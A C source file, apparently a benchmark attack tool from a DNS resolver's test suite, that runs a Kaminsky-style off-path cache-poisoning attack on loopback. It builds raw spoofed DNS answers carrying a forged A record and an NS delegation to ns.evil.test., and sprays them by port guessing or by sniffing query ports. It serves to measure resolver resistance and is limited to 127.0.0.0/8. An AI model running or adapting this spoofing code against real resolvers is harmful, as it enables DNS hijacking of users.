/*
 * bench/attack/forger.c - an off-path attacker on loopback: forged DNS
 * answers from spoofed server addresses, raced against the real answer.
 *
 * Usage: forger -s SERVER [-s SERVER ...] [-m known | -m guess [-p LO-HI]]
 *	[-t TARGET] [-z ZONE] [-n NSNAME] [-a ADDRESS] [-r RATE]
 *	[-c MAXCOUNT] [-C TOTAL] [-L SECONDS] [-w MS] [-D MS]
 *
 * The attack is the one of Kaminsky (2008) and RFC 5452: a resolver asks
 * an authoritative server (SERVER) a question about a name the attacker
 * chose, and before the real answer arrives the attacker sends answers of
 * its own with the server's address as their source.  The resolver must
 * accept one of them only when it carries the query's random UDP port, its
 * random 16-bit ID and question (RFC 5452 section 9.1) and, with 0x20
 * (draft-vixie-dnsext-dns0x20), the random case of the name; RFC 5452
 * section 7 counts the packets this takes.
 * This program plays the attacker against a resolver on the same machine;
 * bench/attack/run drives it and counts poisoned answers.
 *
 * Each forged packet is one IPv4 datagram built whole (a raw socket with
 * IP_HDRINCL, sent only through the loopback device): source SERVER port
 * 53, destination TARGET (the resolver's outgoing address, 127.0.0.1) and
 * a port, and a DNS answer with QR and AA set, a random ID from the
 * project's CSPRNG (util/random.h), the question NAME A IN in lowercase
 * (the attacker cannot know the case 0x20 gave it), the answer "NAME 86400
 * A ADDRESS" (6.6.6.6), the authority "ZONE 86400 NS NSNAME"
 * (victim.test. NS ns.evil.test.: taking over the zone is the prize) and
 * an OPT record, as the real server sends.
 *
 * How the attacker knows the port is the mode:
 *	known	it learns the port by watching the resolver's queries to the
 *		servers on the loopback device, which models a port leak
 *		such as SAD DNS (Man et al., CCS 2020: an ICMP rate-limit
 *		side channel that scans the open port in seconds).  The
 *		watcher is a packet socket whose filter passes only UDP to
 *		port 53 of an address in a 20-octet IPv4 header and hands
 *		over only the first 28 octets (IP and UDP headers): the DNS
 *		message, its ID and the case of its name, never reach this
 *		process, so the attacker still has to guess the ID and the
 *		case, as a real one would.  Of each query it reads the UDP
 *		source port and the destination address, nothing else
 *		(fg_sniff_one()).  Every query seen during one attack
 *		becomes a target and the packets go round-robin over them
 *		(a resolver that asks two servers at once has two ports
 *		open).
 *	guess	a blind attacker: every packet goes to a random port of
 *		LO-HI (the resolver's source port range) from a random
 *		server of the list; nothing is watched.
 *
 * Options, defaults in brackets: -s a server address to forge (one to
 * FG_MAXSERVERS), -t the resolver's outgoing address [127.0.0.1], -p the
 * guessed port range [1024-65535], -z the zone [victim.test.], -n the
 * name server of the forged delegation [ns.evil.test.], -a the forged
 * address [6.6.6.6], -r packets per second [100000], -c most packets one
 * attack may ask for [1000000], -C most packets in all [100000000], -L
 * seconds the program may live [3600], -w ms to wait for the query in
 * known mode [2000], -D ms one attack may last [10000].
 *
 * Control is by lines on standard input, answered on standard output, so
 * one process serves many lookups:
 *	attack NAME COUNT	empty the watcher's queue and answer "ready";
 *				then (known) wait up to -w ms for a query
 *				to a server, or (guess) start at once, send
 *				COUNT packets, and answer "sent N queries
 *				K" (N packets sent, K queries seen; with
 *				"capped" added when the total cap cut it)
 *	quit			answer "bye total N" and exit
 * End of input also ends the program.  Everything is bounded: packets per
 * second (-r), packets per attack (-c), packets in all (-C), the time of
 * one attack (-D) and of the whole run (-L).  Every address must be in
 * 127.0.0.0/8 and the sending socket is bound to the loopback device:
 * nothing leaves the machine.  Raw and packet sockets need root
 * (CAP_NET_RAW); without it the program says so and exits.
 */
#include "config.h"
#include "util/dname.h"
#include "util/dnsdef.h"
#include "util/random.h"
#include <arpa/inet.h>
#include <errno.h>
#include <linux/filter.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/** Most servers (spoofed sources) and most queries targeted at once. */
#define FG_MAXSERVERS 8
#define FG_MAXTARGETS 8
/** Packets handed to the kernel per sendmmsg() call. */
#define FG_BATCH 64
/** Largest forged packet: IPv4 and UDP headers and the DNS answer, with
 * two names of at most DNAME_MAXLEN and the question's name. */
#define FG_MAXPKT (20 + 8 + 12 + 3 * DNAME_MAXLEN + 64)
/** The octets the watcher passes: an IPv4 header without options (20)
 * and the UDP header (8).  The DNS header starts right after. */
#define FG_SNAPLEN 28
/** Longest control line. */
#define FG_MAXLINE 1024
/** DNS port (RFC 1035 section 4.2). */
#define FG_DNS_PORT 53
/** TTL of the forged records: a day, the longest most resolvers keep
 * (Unbound's cache-max-ttl default), so a success lasts. */
#define FG_TTL 86400

/** Limits and choices from the command line. */
struct fg_settings {
	/** the authoritative servers whose addresses are forged */
	struct in_addr server[FG_MAXSERVERS];
	/** number of them */
	int nserver;
	/** the resolver's outgoing address, destination of the packets */
	struct in_addr target;
	/** 1 for known-port mode, 0 for guess mode */
	int known;
	/** guess mode: the port range, inclusive */
	unsigned lo, hi;
	/** zone claimed in the authority section, wire format */
	uint8_t zone[DNAME_MAXLEN];
	/** the name server the forged delegation names, wire format */
	uint8_t nsname[DNAME_MAXLEN];
	/** the forged A record's address */
	struct in_addr addr;
	/** packets per second */
	long rate;
	/** most packets one attack may ask for */
	long maxcount;
	/** most packets over the whole run */
	long long total_cap;
	/** the run ends after this many seconds */
	long life;
	/** known mode: how long to wait for the query, ms */
	long wait_ms;
	/** longest one attack may spray, ms */
	long attack_ms;
};

/** One port to spray: a query the watcher saw. */
struct fg_target {
	/** the server it was sent to: the forged source */
	struct in_addr server;
	/** its UDP source port, network order: the forged destination */
	uint16_t port;
};

/** The program's state. */
struct fg_forger {
	/** the settings */
	struct fg_settings s;
	/** raw socket (IPPROTO_RAW, IP_HDRINCL) that sends */
	int raw;
	/** packet socket on the loopback device (known mode), else -1 */
	int sniff;
	/** the CSPRNG state for IDs, ports and servers */
	struct random_state *rnd;
	/** packets sent so far, every attack */
	long long total;
	/** CLOCK_MONOTONIC ms when the run must end */
	long long deadline;
	/** the packet of the current attack; ID, addresses, port and
	 * checksum are filled in per packet */
	uint8_t tmpl[FG_MAXPKT];
	/** its length */
	size_t tlen;
};

/** Set by SIGTERM/SIGINT; every loop stops when set. */
static volatile sig_atomic_t fg_quit;

static void
fg_on_signal(int sig)
{
	(void)sig;
	fg_quit = 1;
}

/** CLOCK_MONOTONIC in milliseconds. */
static long long
fg_now_ms(void)
{
	struct timespec ts;

	(void)clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/** CLOCK_MONOTONIC in microseconds. */
static long long
fg_now_us(void)
{
	struct timespec ts;

	(void)clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long)ts.tv_sec * 1000000 + ts.tv_nsec / 1000;
}

/**
 * Parse an IPv4 address that must be on loopback.
 * @param s: the text.
 * @param a: receives the address.
 * @return 0, or -1 (with a message) for bad text or an address outside
 *	127.0.0.0/8: this program never sends anywhere else.
 */
static int
fg_loopback(const char *s, struct in_addr *a)
{
	if (inet_pton(AF_INET, s, a) != 1) {
		fprintf(stderr, "forger: not an IPv4 address: %s\n", s);
		return -1;
	}
	if ((ntohl(a->s_addr) >> 24) != 127) {
		fprintf(stderr, "forger: %s is not a loopback address "
		    "(127.0.0.0/8); refused\n", s);
		return -1;
	}
	return 0;
}

/** Parse a decimal number in [min, max]; 0, or -1 when it is not one. */
static int
fg_number(const char *s, long long min, long long max, long long *v)
{
	char *end;

	errno = 0;
	*v = strtoll(s, &end, 10);
	return (errno == 0 && end != s && *end == '\0' && *v >= min &&
	    *v <= max) ? 0 : -1;
}

/** The Internet checksum (RFC 1071) of a buffer, folded, not inverted,
 * added to sum. */
static uint32_t
fg_sum(uint32_t sum, const uint8_t *p, size_t n)
{
	size_t i;

	for (i = 0; i + 1 < n; i += 2) {
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	}
	if (n & 1) {
		sum += (uint32_t)p[n - 1] << 8;
	}
	while (sum >> 16) {
		sum = (sum & 0xffff) + (sum >> 16);
	}
	return sum;
}

/** Append a record header (owner given as wire octets, type, class IN,
 * FG_TTL, rdlength) at *pos. */
static void
fg_put_rr(uint8_t *p, size_t *pos, const uint8_t *owner, size_t ownerlen,
    uint16_t type, uint16_t rdlen)
{
	memcpy(p + *pos, owner, ownerlen);
	*pos += ownerlen;
	wire_put16(p + *pos, type);
	wire_put16(p + *pos + 2, RR_CLASS_IN);
	wire_put32(p + *pos + 4, FG_TTL);
	wire_put16(p + *pos + 8, rdlen);
	*pos += 10;
}

/**
 * Build the packet of one attack: IPv4 and UDP headers with the parts
 * that change per packet left zero, and the forged answer.
 * @param f: the forger; f->tmpl and f->tlen are set.
 * @param qname: the name attacked, wire format, lowercased here.
 */
static void
fg_template(struct fg_forger *f, const uint8_t *qname)
{
	static const uint8_t ptr_qname[2] = { 0xc0, 12 };
	uint8_t name[DNAME_MAXLEN], *p = f->tmpl, *dns = f->tmpl + 28;
	size_t pos = 12, ql = dname_len(qname), zl = dname_len(f->s.zone);
	size_t nl = dname_len(f->s.nsname);

	memcpy(name, qname, ql);
	/* The attacker does not know the 0x20 case of the query. */
	dname_tolower(name);
	memset(f->tmpl, 0, sizeof(f->tmpl));
	/* DNS header: ID per packet, QR AA, one question, one answer, one
	 * authority record, one additional (OPT) (RFC 1035 4.1.1). */
	wire_put16(dns + 2, MSG_FLAG_QR | MSG_FLAG_AA);
	wire_put16(dns + 4, 1);
	wire_put16(dns + 6, 1);
	wire_put16(dns + 8, 1);
	wire_put16(dns + 10, 1);
	memcpy(dns + pos, name, ql);
	pos += ql;
	wire_put16(dns + pos, RR_TYPE_A);
	wire_put16(dns + pos + 2, RR_CLASS_IN);
	pos += 4;
	fg_put_rr(dns, &pos, ptr_qname, 2, RR_TYPE_A, 4);
	memcpy(dns + pos, &f->s.addr, 4);
	pos += 4;
	fg_put_rr(dns, &pos, f->s.zone, zl, RR_TYPE_NS, (uint16_t)nl);
	memcpy(dns + pos, f->s.nsname, nl);
	pos += nl;
	/* OPT: root owner, payload 1232, no flags, no options (RFC 6891
	 * section 6.1.2), as the real server answers an EDNS query. */
	dns[pos] = 0;
	wire_put16(dns + pos + 1, RR_TYPE_OPT);
	wire_put16(dns + pos + 3, 1232);
	pos += 11;
	/* IPv4 header: the kernel fills in the checksum, and the ID since
	 * it is 0 (raw(7), IP_HDRINCL). */
	p[0] = 0x45;
	wire_put16(p + 2, (uint16_t)(28 + pos));
	p[8] = 64;
	p[9] = IPPROTO_UDP;
	memcpy(p + 16, &f->s.target, 4);
	/* UDP header: source port 53, destination and checksum per
	 * packet. */
	wire_put16(p + 20, FG_DNS_PORT);
	wire_put16(p + 24, (uint16_t)(8 + pos));
	f->tlen = 28 + pos;
}

/**
 * Fill in one packet of the attack from the template.
 * @param f: the forger.
 * @param out: the packet, f->tlen octets.
 * @param src: the forged source (a server).
 * @param port: destination port, network order.
 * @param id: the DNS ID to try.
 */
static void
fg_packet(const struct fg_forger *f, uint8_t *out, struct in_addr src,
    uint16_t port, uint16_t id)
{
	uint8_t pseudo[12];
	uint32_t sum;
	uint16_t c;

	memcpy(out, f->tmpl, f->tlen);
	memcpy(out + 12, &src, 4);
	memcpy(out + 22, &port, 2);
	wire_put16(out + 28, id);
	/* UDP checksum over the pseudo header and the datagram (RFC 768);
	 * 0 is sent as all ones. */
	memcpy(pseudo, out + 12, 8);
	pseudo[8] = 0;
	pseudo[9] = IPPROTO_UDP;
	memcpy(pseudo + 10, out + 24, 2);
	sum = fg_sum(0, pseudo, sizeof(pseudo));
	sum = fg_sum(sum, out + 20, f->tlen - 20);
	c = (uint16_t)~sum;
	wire_put16(out + 26, c == 0 ? 0xffff : c);
}

/**
 * Open the watcher: a packet socket on the loopback device whose filter
 * passes UDP datagrams to port 53 that have a plain 20-octet IPv4 header
 * and are not fragments, cut to their first FG_SNAPLEN octets.
 * @return the socket, or -1 after printing why.
 */
static int
fg_sniff_open(void)
{
	static struct sock_filter code[] = {
		/* IPv4 with a 20-octet header (no options) */
		BPF_STMT(BPF_LD | BPF_B | BPF_ABS, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 0x45, 0, 7),
		/* UDP */
		BPF_STMT(BPF_LD | BPF_B | BPF_ABS, 9),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, IPPROTO_UDP, 0, 5),
		/* not a fragment: MF clear, offset 0 */
		BPF_STMT(BPF_LD | BPF_H | BPF_ABS, 6),
		BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, 0x3fff, 3, 0),
		/* UDP destination port 53 */
		BPF_STMT(BPF_LD | BPF_H | BPF_ABS, 22),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, FG_DNS_PORT, 0, 1),
		/* pass the IP and UDP headers only: never the DNS message */
		BPF_STMT(BPF_RET | BPF_K, FG_SNAPLEN),
		BPF_STMT(BPF_RET | BPF_K, 0),
	};
	struct sock_fprog prog = { sizeof(code) / sizeof(code[0]), code };
	struct sockaddr_ll sll;
	int fd;

	fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	if (fd < 0) {
		fprintf(stderr, "forger: packet socket: %s%s\n",
		    strerror(errno), errno == EPERM ? " (needs root: "
		    "CAP_NET_RAW)" : "");
		return -1;
	}
	memset(&sll, 0, sizeof(sll));
	sll.sll_family = AF_PACKET;
	sll.sll_protocol = htons(ETH_P_IP);
	sll.sll_ifindex = (int)if_nametoindex("lo");
	if (sll.sll_ifindex == 0 ||
	    setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &prog,
	    sizeof(prog)) != 0 ||
	    bind(fd, (struct sockaddr *)&sll, sizeof(sll)) != 0) {
		fprintf(stderr, "forger: packet socket on lo: %s\n",
		    strerror(errno));
		close(fd);
		return -1;
	}
	return fd;
}

/**
 * Read one packet from the watcher, without waiting.  Of the query it
 * reads the UDP source port and the destination address only; the buffer
 * holds FG_SNAPLEN octets, so the DNS ID and name could not be read even
 * by mistake.
 * @param f: the forger.
 * @param t: receives the server and port of a query to one of the
 *	servers.
 * @return 1 for a query to a server, 0 for another packet (skipped), -1
 *	when there is nothing more to read.
 */
static int
fg_sniff_one(const struct fg_forger *f, struct fg_target *t)
{
	uint8_t hdr[FG_SNAPLEN];
	struct sockaddr_ll from;
	socklen_t fl = sizeof(from);
	ssize_t n;
	int i;

	n = recvfrom(f->sniff, hdr, sizeof(hdr), MSG_DONTWAIT,
	    (struct sockaddr *)&from, &fl);
	if (n < 0) {
		return -1;
	}
	/* On lo each packet passes twice, going out and coming in: keep
	 * the incoming copy. */
	if (n < FG_SNAPLEN || from.sll_pkttype == PACKET_OUTGOING) {
		return 0;
	}
	memcpy(&t->server, hdr + 16, 4);	/* destination address */
	memcpy(&t->port, hdr + 20, 2);		/* UDP source port */
	for (i = 0; i < f->s.nserver; i++) {
		if (t->server.s_addr == f->s.server[i].s_addr) {
			return 1;
		}
	}
	return 0;
}

/**
 * Take in the queries the watcher has seen, adding new ones to the
 * targets.
 * @return the number of targets now.
 */
static int
fg_sniff_all(const struct fg_forger *f, struct fg_target *tg, int n)
{
	struct fg_target t;
	int r, i, budget;

	/* Bounded: a flood of other port-53 traffic cannot hold us. */
	for (budget = 0; budget < 1000; budget++) {
		if ((r = fg_sniff_one(f, &t)) < 0) {
			break;
		}
		if (r == 0) {
			continue;
		}
		for (i = 0; i < n; i++) {
			if (tg[i].port == t.port &&
			    tg[i].server.s_addr == t.server.s_addr) {
				break;
			}
		}
		if (i == n && n < FG_MAXTARGETS) {
			tg[n++] = t;
		}
	}
	return n;
}

/** Empty the watcher's queue: queries from before an attack are not
 * its targets. */
static void
fg_sniff_drain(const struct fg_forger *f)
{
	uint8_t hdr[FG_SNAPLEN];
	int i;

	for (i = 0; i < 100000; i++) {
		if (recv(f->sniff, hdr, sizeof(hdr), MSG_DONTWAIT) < 0) {
			break;
		}
	}
}

/**
 * Known mode: wait until the watcher sees a query to a server.
 * @return the number of targets (0 when none came within wait_ms).
 */
static int
fg_wait_query(const struct fg_forger *f, struct fg_target *tg)
{
	long long end = fg_now_ms() + f->s.wait_ms, now;
	struct pollfd pfd;
	int n = 0;

	while (n == 0 && !fg_quit && (now = fg_now_ms()) < end &&
	    now < f->deadline) {
		pfd.fd = f->sniff;
		pfd.events = POLLIN;
		if (poll(&pfd, 1, (int)(end - now)) > 0) {
			n = fg_sniff_all(f, tg, 0);
		}
	}
	return n;
}

/**
 * Spray the packets of one attack, at most f->s.rate a second.
 * @param f: the forger, its template built.
 * @param count: packets to send.
 * @param tg: known mode: the targets, updated as more queries are seen.
 * @param ntg: known mode: their number (at least 1), updated.
 * @return packets the kernel took.  One it refused (ENOBUFS on a
 *	flooded loopback) is not sent again: it counts against count and
 *	the rate, as a packet lost on a busy link would.
 */
static long
fg_spray(struct fg_forger *f, long count, struct fg_target *tg, int *ntg)
{
	static uint8_t buf[FG_BATCH][FG_MAXPKT];
	struct sockaddr_in to[FG_BATCH];
	struct iovec iov[FG_BATCH];
	struct mmsghdr msg[FG_BATCH];
	uint16_t ids[FG_BATCH];
	long long t0 = fg_now_us(), end, now, allowed, due;
	long sent = 0, tried = 0;
	int i, k, n, next = 0;

	end = t0 + (long long)f->s.attack_ms * 1000;
	while (tried < count && !fg_quit) {
		now = fg_now_us();
		if (now >= end || now / 1000 >= f->deadline) {
			break;
		}
		/* Rate limit: rate * elapsed packets by now, plus one batch
		 * to start with; wait until a whole batch (or the rest) is
		 * due, so each system call carries many packets. */
		n = (int)(count - tried < FG_BATCH ? count - tried : FG_BATCH);
		allowed = (now - t0) * f->s.rate / 1000000 + FG_BATCH - tried;
		if (allowed < n) {
			struct timespec ts = { 0, 0 };

			due = t0 + (tried + n - FG_BATCH) * 1000000 /
			    f->s.rate;
			ts.tv_nsec = (long)((due - now) * 1000);
			if (ts.tv_nsec > 0 && ts.tv_nsec < 1000000000) {
				(void)nanosleep(&ts, NULL);
			}
			continue;
		}
		if (f->s.known) {
			*ntg = fg_sniff_all(f, tg, *ntg);
		}
		random_bytes(f->rnd, ids, sizeof(ids[0]) * (size_t)n);
		for (i = 0; i < n; i++) {
			struct in_addr src;
			uint16_t port;

			if (f->s.known) {
				src = tg[next].server;
				port = tg[next].port;
				next = (next + 1) % *ntg;
			} else {
				src = f->s.server[random_uniform(f->rnd,
				    (uint32_t)f->s.nserver)];
				port = htons((uint16_t)(f->s.lo +
				    random_uniform(f->rnd,
				    f->s.hi - f->s.lo + 1)));
			}
			fg_packet(f, buf[i], src, port, ids[i]);
			memset(&to[i], 0, sizeof(to[i]));
			to[i].sin_family = AF_INET;
			to[i].sin_addr = f->s.target;
			iov[i].iov_base = buf[i];
			iov[i].iov_len = f->tlen;
			memset(&msg[i], 0, sizeof(msg[i]));
			msg[i].msg_hdr.msg_name = &to[i];
			msg[i].msg_hdr.msg_namelen = sizeof(to[i]);
			msg[i].msg_hdr.msg_iov = &iov[i];
			msg[i].msg_hdr.msg_iovlen = 1;
		}
		for (i = 0; i < n; ) {
			k = sendmmsg(f->raw, msg + i, (unsigned)(n - i), 0);
			if (k < 0 && errno == EINTR && !fg_quit) {
				continue;
			}
			if (k <= 0) {
				break;
			}
			i += k;
		}
		sent += i;
		tried += n;
		if (i < n) {
			/* The kernel's queues are full: let the receiver
			 * run. */
			(void)sched_yield();
		}
	}
	return sent;
}

/**
 * Carry out one "attack NAME COUNT" command.
 * @param f: the forger.
 * @param name: the name, presentation format.
 * @param count: packets asked for.
 * @return 0, or -1 when the name is bad.
 */
static int
fg_attack(struct fg_forger *f, const char *name, long count)
{
	struct fg_target tg[FG_MAXTARGETS];
	uint8_t qname[DNAME_MAXLEN];
	int ntg = 0, capped = 0;
	long sent = 0;

	if (dname_from_str(name, NULL, qname, NULL) != 0) {
		return -1;
	}
	if (count > f->s.total_cap - f->total) {
		count = (long)(f->s.total_cap - f->total);
		capped = 1;
	}
	fg_template(f, qname);
	if (f->s.known) {
		fg_sniff_drain(f);
	}
	printf("ready\n");
	fflush(stdout);
	if (f->s.known) {
		ntg = fg_wait_query(f, tg);
	}
	if (count > 0 && (!f->s.known || ntg > 0)) {
		sent = fg_spray(f, count, tg, &ntg);
	}
	f->total += sent;
	printf("sent %ld queries %d%s\n", sent, ntg, capped ? " capped" : "");
	fflush(stdout);
	return 0;
}

/**
 * Read one control line, waiting at most until the run's deadline.
 * @param line: receives the line without its newline; FG_MAXLINE octets.
 * @return 1 for a line, 0 at the end of input, the deadline or a
 *	signal, -1 for a line too long.
 */
static int
fg_read_line(const struct fg_forger *f, char *line)
{
	static char buf[FG_MAXLINE];
	static size_t have;
	struct pollfd pfd;
	char *nl;
	ssize_t n;
	long long now;

	for (;;) {
		if ((nl = memchr(buf, '\n', have)) != NULL) {
			size_t len = (size_t)(nl - buf);

			memcpy(line, buf, len);
			line[len] = '\0';
			have -= len + 1;
			memmove(buf, nl + 1, have);
			return 1;
		}
		if (have == sizeof(buf)) {
			have = 0;
			return -1;
		}
		if (fg_quit || (now = fg_now_ms()) >= f->deadline) {
			return 0;
		}
		pfd.fd = 0;
		pfd.events = POLLIN;
		if (poll(&pfd, 1, (int)(f->deadline - now > 1000 ? 1000 :
		    f->deadline - now)) <= 0) {
			continue;
		}
		n = read(0, buf + have, sizeof(buf) - have);
		if (n <= 0) {
			if (n < 0 && errno == EINTR) {
				continue;
			}
			return 0;
		}
		have += (size_t)n;
	}
}

/** Serve control lines until quit, end of input or a limit. */
static void
fg_serve(struct fg_forger *f)
{
	char line[FG_MAXLINE], name[FG_MAXLINE], extra;
	long long count;
	int r;

	while ((r = fg_read_line(f, line)) != 0) {
		if (r < 0) {
			printf("error line too long\n");
		} else if (strcmp(line, "quit") == 0) {
			break;
		} else if (sscanf(line, "attack %1023s %lld %c", name, &count,
		    &extra) == 2 && count >= 0 && count <= f->s.maxcount) {
			if (fg_attack(f, name, (long)count) != 0) {
				printf("error bad name %s\n", name);
			}
		} else {
			printf("error expected: attack NAME COUNT (COUNT at "
			    "most %ld) or quit\n", f->s.maxcount);
		}
		fflush(stdout);
	}
	printf("bye total %lld\n", f->total);
	fflush(stdout);
}

/**
 * Open the sending socket: raw, IP_HDRINCL, bound to the loopback device.
 * @return the socket, or -1 after printing why.
 */
static int
fg_raw_open(void)
{
	int fd, on = 1;

	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		fprintf(stderr, "forger: raw socket: %s%s\n", strerror(errno),
		    errno == EPERM ? " (needs root: CAP_NET_RAW)" : "");
		return -1;
	}
	if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &on, sizeof(on)) != 0 ||
	    setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "lo", 3) != 0) {
		fprintf(stderr, "forger: raw socket on lo: %s\n",
		    strerror(errno));
		close(fd);
		return -1;
	}
	return fd;
}

static void
usage(void)
{
	fprintf(stderr, "usage: forger -s server [-s server ...] "
	    "[-m known | -m guess [-p lo-hi]] [-t target]\n"
	    "\t[-z zone] [-n nsname] [-a address] [-r rate] [-c maxcount] "
	    "[-C total]\n\t[-L seconds] [-w ms] [-D ms]\n");
	exit(2);
}

/** Parse the command line into s; exits on errors. */
static void
fg_options(int argc, char **argv, struct fg_settings *s)
{
	const char *zone = "victim.test.", *ns = "ns.evil.test.";
	long long v, lo, hi;
	char *dash;
	int c, range_set = 0;

	memset(s, 0, sizeof(*s));
	(void)inet_pton(AF_INET, "127.0.0.1", &s->target);
	(void)inet_pton(AF_INET, "6.6.6.6", &s->addr);
	s->known = 1;
	s->lo = 1024;
	s->hi = 65535;
	s->rate = 100000;
	s->maxcount = 1000000;
	s->total_cap = 100000000;
	s->life = 3600;
	s->wait_ms = 2000;
	s->attack_ms = 10000;
	while ((c = getopt(argc, argv, "a:c:C:D:L:m:n:p:r:s:t:w:z:")) != -1) {
		switch (c) {
		case 'a':
			/* Data, not an address packets go to: any. */
			if (inet_pton(AF_INET, optarg, &s->addr) != 1) {
				usage();
			}
			break;
		case 'c':
			if (fg_number(optarg, 1, 10000000, &v) != 0) {
				usage();
			}
			s->maxcount = (long)v;
			break;
		case 'C':
			if (fg_number(optarg, 1, 1000000000000LL, &v) != 0) {
				usage();
			}
			s->total_cap = v;
			break;
		case 'D':
			if (fg_number(optarg, 1, 600000, &v) != 0) {
				usage();
			}
			s->attack_ms = (long)v;
			break;
		case 'L':
			if (fg_number(optarg, 1, 86400, &v) != 0) {
				usage();
			}
			s->life = (long)v;
			break;
		case 'm':
			if (strcmp(optarg, "known") == 0) {
				s->known = 1;
			} else if (strcmp(optarg, "guess") == 0) {
				s->known = 0;
			} else {
				usage();
			}
			break;
		case 'n':
			ns = optarg;
			break;
		case 'p':
			range_set = 1;
			if ((dash = strchr(optarg, '-')) == NULL) {
				usage();
			}
			*dash = '\0';
			if (fg_number(optarg, 1, 65535, &lo) != 0 ||
			    fg_number(dash + 1, lo, 65535, &hi) != 0) {
				usage();
			}
			s->lo = (unsigned)lo;
			s->hi = (unsigned)hi;
			break;
		case 'r':
			if (fg_number(optarg, 1, 10000000, &v) != 0) {
				usage();
			}
			s->rate = (long)v;
			break;
		case 's':
			if (s->nserver == FG_MAXSERVERS ||
			    fg_loopback(optarg, &s->server[s->nserver]) != 0) {
				usage();
			}
			s->nserver++;
			break;
		case 't':
			if (fg_loopback(optarg, &s->target) != 0) {
				usage();
			}
			break;
		case 'w':
			if (fg_number(optarg, 1, 600000, &v) != 0) {
				usage();
			}
			s->wait_ms = (long)v;
			break;
		case 'z':
			zone = optarg;
			break;
		default:
			usage();
		}
	}
	if (optind != argc || s->nserver == 0 || (range_set && s->known)) {
		usage();
	}
	if (dname_from_str(zone, NULL, s->zone, NULL) != 0 ||
	    dname_from_str(ns, NULL, s->nsname, NULL) != 0) {
		fprintf(stderr, "forger: bad zone or name server name\n");
		exit(2);
	}
}

int
main(int argc, char **argv)
{
	static struct fg_forger f;
	struct sigaction sa;
	int ret = 1;

	fg_options(argc, argv, &f.s);
	f.raw = f.sniff = -1;
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = fg_on_signal;
	sigemptyset(&sa.sa_mask);
	(void)sigaction(SIGTERM, &sa, NULL);
	(void)sigaction(SIGINT, &sa, NULL);
	signal(SIGPIPE, SIG_IGN);
	if ((f.raw = fg_raw_open()) < 0 ||
	    (f.s.known && (f.sniff = fg_sniff_open()) < 0)) {
		goto out;
	}
	if ((f.rnd = random_create()) == NULL) {
		fprintf(stderr, "forger: no random numbers\n");
		goto out;
	}
	f.deadline = fg_now_ms() + (long long)f.s.life * 1000;
	fg_serve(&f);
	ret = 0;
out:
	random_delete(f.rnd);
	if (f.raw >= 0) {
		close(f.raw);
	}
	if (f.sniff >= 0) {
		close(f.sniff);
	}
	return ret;
}
